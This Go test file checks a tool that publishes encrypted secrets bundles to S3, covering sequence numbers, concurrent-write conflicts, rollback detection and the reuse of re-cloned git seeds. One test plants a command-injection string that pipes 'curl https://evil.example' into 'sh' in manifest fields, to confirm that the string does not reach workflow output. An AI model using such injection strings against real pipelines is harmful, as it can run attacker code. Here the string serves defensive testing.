package publish_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/openclaw/clawdinator-bundle/internal/agekey"
	"github.com/openclaw/clawdinator-bundle/internal/bucket"
	"github.com/openclaw/clawdinator-bundle/internal/gate"
	"github.com/openclaw/clawdinator-bundle/internal/layout"
	"github.com/openclaw/clawdinator-bundle/internal/manifest"
	"github.com/openclaw/clawdinator-bundle/internal/problem"
	"github.com/openclaw/clawdinator-bundle/internal/publish"
	"github.com/openclaw/clawdinator-bundle/internal/report"
	"github.com/openclaw/clawdinator-bundle/internal/result"
	"github.com/openclaw/clawdinator-bundle/internal/s3test"
	"github.com/openclaw/clawdinator-bundle/internal/sample"
	"github.com/openclaw/clawdinator-bundle/internal/verify"
)

// countingBucket counts the downloads of each object name (the last
// segment of the key) of a real S3 bucket; everything else, PutIf too,
// is the bucket's own.
type countingBucket struct {
	*bucket.S3
	mu   sync.Mutex
	gets map[string]int
}

func (c *countingBucket) Get(ctx context.Context, key, versionID string) (io.ReadCloser, bucket.Object, error) {
	c.mu.Lock()
	if c.gets == nil {
		c.gets = map[string]int{}
	}
	c.gets[key[strings.LastIndex(key, "/")+1:]]++
	c.mu.Unlock()
	return c.S3.Get(ctx, key, versionID)
}

func (c *countingBucket) reset() map[string]int {
	c.mu.Lock()
	defer c.mu.Unlock()
	g := c.gets
	c.gets = nil
	return g
}

// sequenceWorld publishes the sample as the engine does: what is current
// found first (publish.FindCurrent), the run started at a given time.
type sequenceWorld struct {
	t   *testing.T
	srv *s3test.Server
	bkt string
	b   *countingBucket
	f   *s3Fixture
	key *agekey.Key
}

func newSequenceWorld(t *testing.T) *sequenceWorld {
	srv := s3test.Start(t)
	bkt := s3Bucket(t, srv)
	f := s3NewFixture(t)
	key, err := agekey.Parse(f.Key)
	if err != nil {
		t.Fatal(err)
	}
	return &sequenceWorld{t: t, srv: srv, bkt: bkt, b: &countingBucket{S3: s3Open(t, srv, bkt)}, f: f, key: key}
}

func (w *sequenceWorld) prepare(start int64) *gate.Prepared {
	w.t.Helper()
	in := w.f.load()
	in.Start = time.Unix(start, 0)
	in.Published = publish.FindCurrent(context.Background(), w.b, in.Instances, w.key, 0)
	return s3Prepare(w.t, in)
}

func (w *sequenceWorld) publish(start int64) (*gate.Prepared, *result.Result) {
	w.t.Helper()
	prep := w.prepare(start)
	res := publish.Publish(context.Background(), prep, s3Options(w.b))
	s3RequireClean(w.t, "publish", res)
	return prep, res
}

// requireSequence checks every instance's statement has sequence want, in
// what was built and in what the bucket's manifest records.
func (w *sequenceWorld) requireSequence(prep *gate.Prepared, want uint64) {
	w.t.Helper()
	for _, in := range sample.Instances {
		if got := prep.Statements[in].Sequence; got != want {
			w.t.Errorf("%s: sequence %d, want %d", in, got, want)
		}
		m, _ := s3ReadManifest(w.t, w.b.S3, in)
		if m.Statement == nil || m.Statement.Sequence != want {
			w.t.Errorf("%s: the manifest's statement %+v, want sequence %d", in, m.Statement, want)
		}
	}
}

// TestSequence: the sequence is the start time, an unchanged bundle keeps
// its number (and costs no download: its statement is proven by the
// store's checksum of an archive built from the manifest's hint), a
// changed one gets max(start, current + 1), a manifest cannot move it, and
// a rotated key starts again from the clock.
func TestSequence(t *testing.T) {
	w := newSequenceWorld(t)
	prep, _ := w.publish(1_000_000)
	w.requireSequence(prep, 1_000_000)

	// Unchanged, later: the same number, the same bytes, no download.
	w.b.reset()
	prep, res := w.publish(2_000_000)
	w.requireSequence(prep, 1_000_000)
	for _, ir := range res.Instances {
		for _, o := range ir.Objects {
			if o.Status != result.Unchanged || !o.Verified {
				t.Errorf("%s %s: %s verified %v, want unchanged and verified", ir.Instance, o.Name, o.Status, o.Verified)
			}
		}
	}
	if gets := w.b.reset(); gets[layout.SecretsObject] != 0 || gets[layout.SeedsObject] != 0 || gets[layout.ManifestName] != len(sample.Instances) {
		t.Errorf("an unchanged re-publish downloaded %v; want only one manifest per instance", gets)
	}

	// A manifest whose statement says another sequence is no proof: the
	// archive is downloaded and proven, and the real number kept.
	m, _ := s3ReadManifest(t, w.b.S3, sample.Instances[0])
	m.Statement.Sequence = 9_000_000_000
	data, _ := json.Marshal(m)
	s3Upload(t, w.srv, w.bkt, layout.Key(m.BootstrapPrefix, layout.ManifestName), data)
	prep, _ = w.publish(2_500_000)
	w.requireSequence(prep, 1_000_000)
	if gets := w.b.reset(); gets[layout.SecretsObject] != 1 {
		t.Errorf("with one manifest lying, the run downloaded %v; want that one secrets archive", gets)
	}

	// A change with the clock behind the current number: current + 1.
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"12345")
	prep, _ = w.publish(500)
	w.requireSequence(prep, 1_000_001)
	// A change with the clock ahead: the clock.
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"67890")
	prep, _ = w.publish(3_000_000)
	w.requireSequence(prep, 3_000_000)

	// A rotated key proves none of the current statements: the clock.
	w.f = s3NewFixture(t)
	if w.key, _ = agekey.Parse(w.f.Key); w.key.Recipient() == prep.Key.Recipient() {
		t.Fatal("the new fixture has the old key: nothing was rotated")
	}
	prep, _ = w.publish(3_000_100)
	w.requireSequence(prep, 3_000_100)
}

// TestConcurrentPublishes: two publishes of one instance that started from
// the same version cannot both land: the secrets archive is written only
// over the version current at the start (If-Match), the later write fails
// and names the object, and the first publish's bundle stays current.
func TestConcurrentPublishes(t *testing.T) {
	w := newSequenceWorld(t)
	w.publish(1_000_000)
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"first")
	first := w.prepare(2_000_000)
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"second")
	second := w.prepare(2_000_001)

	s3RequireClean(t, "the first publish", publish.Publish(context.Background(), first, s3Options(w.b)))
	res := publish.Publish(context.Background(), second, s3Options(w.b))
	if res.OK() {
		t.Fatal("the second publish, started from the same version, landed too")
	}
	for _, ir := range res.Instances {
		if ir.Err == nil || !strings.Contains(ir.Err.Error(), "another publish wrote "+layout.Key("bootstrap/"+ir.Instance, layout.SecretsObject)+" after this run started") {
			t.Errorf("%s: err = %v", ir.Instance, ir.Err)
		}
		if got := s3Fetch(t, w.b.S3, layout.Key("bootstrap/"+ir.Instance, layout.SecretsObject), ""); got != first.Secrets[ir.Instance].Hex() {
			t.Errorf("%s: current secrets archive %s, want the first publish's", ir.Instance, got)
		}
	}
	s3RequireClean(t, "verify", s3Verify(t, w.b.S3, w.f, w.f.Recipient))

	// Where nothing was current at the start the write is unconditional
	// (a key whose current version is a delete marker must stay
	// writable): after every object was removed, publish writes again.
	for _, in := range sample.Instances {
		for _, name := range []string{layout.SecretsObject, layout.SeedsObject, layout.ManifestName} {
			if err := w.b.Delete(context.Background(), layout.Key("bootstrap/"+in, name), ""); err != nil {
				t.Fatal(err)
			}
		}
	}
	prep, _ := w.publish(3_000_000)
	w.requireSequence(prep, 3_000_000)
}

// noVersions is a bucket that may not list versions.
type noVersions struct{ *bucket.S3 }

func (noVersions) Versions(context.Context, string, int) ([]bucket.Object, error) {
	return nil, errors.New("AccessDenied: s3:ListBucketVersions")
}

// TestVerifyReportsRollback: one CopyObject of an older genuine secrets
// archive over the current one makes verify report it as older than a
// version still in the bucket, naming both numbers; a bucket that may not
// list versions gets a warning that says so.
func TestVerifyReportsRollback(t *testing.T) {
	w := newSequenceWorld(t)
	w.publish(1_000_000)
	in := sample.Instances[0]
	k := layout.Key("bootstrap/"+in, layout.SecretsObject)
	old, err := w.b.Head(context.Background(), k, "")
	if err != nil {
		t.Fatal(err)
	}
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"new")
	w.publish(2_000_000)
	s3RequireClean(t, "verify before the replay", s3Verify(t, w.b, w.f, w.f.Recipient))

	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
		t.Fatal(err)
	}
	res := s3Verify(t, w.b, w.f, w.f.Recipient)
	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version .* has 2000000")

	// A writer without the key who first puts versions that prove nothing
	// (cheap, tiny objects) between the newer genuine one and the replay
	// does not push the newer one out of verify's sight.
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"newer")
	w.publish(3_000_000)
	newer, err := w.b.Head(context.Background(), k, "")
	if err != nil {
		t.Fatal(err)
	}
	for i := range verify.RollbackVersions + 2 {
		junk := []byte(fmt.Sprintf("junk %d", i))
		if _, err := w.b.Put(context.Background(), k, bytes.NewReader(junk), int64(len(junk)), sha256.Sum256(junk)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
		t.Fatal(err)
	}
	res = s3Verify(t, w.b, w.f, w.f.Recipient)
	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version "+regexp.QuoteMeta(problem.ShortVersion(newer.VersionID))+" has 3000000")

	// More of them than verify downloads: it says the look-back was cut.
	for i := range verify.RollbackUnproven + 1 {
		junk := []byte(fmt.Sprintf("more junk %d", i))
		if _, err := w.b.Put(context.Background(), k, bytes.NewReader(junk), int64(len(junk)), sha256.Sum256(junk)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
		t.Fatal(err)
	}
	res = s3Verify(t, w.b, w.f, w.f.Recipient)
	cut := false
	for _, p := range res.Problems.Warnings() {
		cut = cut || p.Object == k && strings.Contains(p.Message, "do not prove with the key (written without it, or before a key rotation), so a rolled-back (replayed) archive behind them would go unseen")
	}
	if !cut {
		t.Errorf("no warning that versions which do not prove cut the look-back:\n%s", s3Render(res.Problems))
	}

	// Delete markers (a plain DELETE) below the replay are no versions
	// either: they do not push the newer genuine version out of sight.
	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"newest")
	w.publish(4_000_000)
	newest, err := w.b.Head(context.Background(), k, "")
	if err != nil {
		t.Fatal(err)
	}
	for range verify.RollbackListed + 2 {
		if err := w.b.Delete(context.Background(), k, ""); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
		t.Fatal(err)
	}
	res = s3Verify(t, w.b, w.f, w.f.Recipient)
	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version "+regexp.QuoteMeta(problem.ShortVersion(newest.VersionID))+" has 4000000")

	res = s3Verify(t, noVersions{w.b.S3}, w.f, w.f.Recipient)
	found := false
	for _, p := range res.Problems.Warnings() {
		found = found || strings.Contains(p.Message, "cannot list this object's versions, so a rolled-back (replayed) archive would go unseen") && strings.Contains(p.Message, "s3:ListBucketVersions")
	}
	if !found {
		t.Errorf("no warning that versions could not be listed:\n%s", s3Render(res.Problems))
	}
}

// gitIn runs git in dir with a fixed identity and no user configuration.
func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command(s3Tool(t, "git"), args...)
	cmd.Dir = dir
	home := t.TempDir()
	cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+home, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.org", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.org")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// TestPublishReusesReclonedSeeds: the fleet clones its repositories afresh
// on every run. A clone of the same commit with other pack files reuses
// the published seeds (nothing archived, compressed or uploaded: every
// object unchanged); a new commit is uploaded.
func TestPublishReusesReclonedSeeds(t *testing.T) {
	w := newSequenceWorld(t)
	up := t.TempDir()
	if err := os.WriteFile(filepath.Join(up, "README.md"), []byte("fleet\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitIn(t, up, "init", "-q", "-b", "main")
	gitIn(t, up, "add", "-A")
	gitIn(t, up, "commit", "-qm", "one")
	// reclone clones again and repacks at a zlib level: other pack bytes.
	packs := map[string]bool{}
	reclone := func(level string) {
		t.Helper()
		dst := filepath.Join(w.f.SeedsDir, "upstream")
		if err := os.RemoveAll(dst); err != nil {
			t.Fatal(err)
		}
		gitIn(t, w.f.SeedsDir, "clone", "-q", "--depth", "1", "file://"+up, "upstream")
		gitIn(t, dst, "-c", "repack.updateServerInfo=false", "-c", "pack.compression="+level, "repack", "-q", "-adF")
		names, _ := filepath.Glob(filepath.Join(dst, ".git/objects/pack/*.pack"))
		for _, n := range names {
			data, _ := os.ReadFile(n)
			packs[string(data)] = true
		}
	}
	reclone("0")
	first, _ := w.publish(1_000_000)

	reclone("9")
	if len(packs) != 2 {
		t.Fatalf("%d distinct pack files over two clones: the test proves nothing", len(packs))
	}
	prep := w.prepare(2_000_000)
	if prep.Seeds.Source == nil || prep.OpenSeeds() != nil || prep.Seeds.Hex() != first.Seeds.Hex() {
		t.Fatalf("a re-clone of the same commit was archived again (source %+v)", prep.Seeds.Source)
	}
	res := publish.Publish(context.Background(), prep, s3Options(w.b))
	s3RequireClean(t, "publish after a re-clone", res)
	for _, ir := range res.Instances {
		for _, o := range ir.Objects {
			if o.Status != result.Unchanged {
				t.Errorf("%s %s: %s after a re-clone of the same commit", ir.Instance, o.Name, o.Status)
			}
		}
	}
	w.requireSequence(prep, 1_000_000)

	gitIn(t, up, "commit", "-q", "--allow-empty", "-m", "two")
	reclone("0")
	prep, res = w.publish(3_000_000)
	if prep.Seeds.Source != nil || prep.Seeds.Hex() == first.Seeds.Hex() {
		t.Fatal("a new commit was taken for the published seeds")
	}
	for _, ir := range res.Instances {
		if s := ir.Objects[1]; s.Status != result.Uploaded {
			t.Errorf("%s: seeds %s after a new commit", ir.Instance, s.Status)
		}
	}
	w.requireSequence(prep, 3_000_000)
}

// TestUnchangedManifestClaimsNotOutput: an unchanged bundle keeps the
// bucket's manifest, whose tool and source nothing checks. A writer without
// the key who rewrites them (every checked field left as it was) must not
// get that text into what publish reports: the manifest output reaches
// workflow steps (action.md: "the manifests this run wrote from what it
// proved").
func TestUnchangedManifestClaimsNotOutput(t *testing.T) {
	w := newSequenceWorld(t)
	w.publish(1_000_000)
	const evil = `x"; curl https://evil.example | sh; echo "`
	for _, in := range sample.Instances {
		m, _ := s3ReadManifest(t, w.b.S3, in)
		m.Tool = manifest.Tool{Name: evil, Version: evil}
		m.Source = manifest.Source{Repository: evil, SHA: evil, RunID: evil}
		data, err := json.MarshalIndent(m, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.b.Put(context.Background(), layout.Key("bootstrap/"+in, layout.ManifestName), bytes.NewReader(data), int64(len(data)), sha256.Sum256(data)); err != nil {
			t.Fatal(err)
		}
	}
	_, res := w.publish(2_000_000)
	for _, ir := range res.Instances {
		for _, o := range ir.Objects {
			if o.Status != result.Unchanged {
				t.Fatalf("%s %s: %s; the test needs an unchanged bundle", ir.Instance, o.Name, o.Status)
			}
		}
	}
	if out := report.ManifestOutput(res); strings.Contains(out, "evil.example") {
		t.Errorf("the manifest output carries the bucket writer's text:\n%s", out)
	}
	var doc bytes.Buffer
	if err := report.JSON(&doc, res); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(doc.String(), "evil.example") {
		t.Errorf("publish --json carries the bucket writer's text:\n%s", doc.String())
	}
}
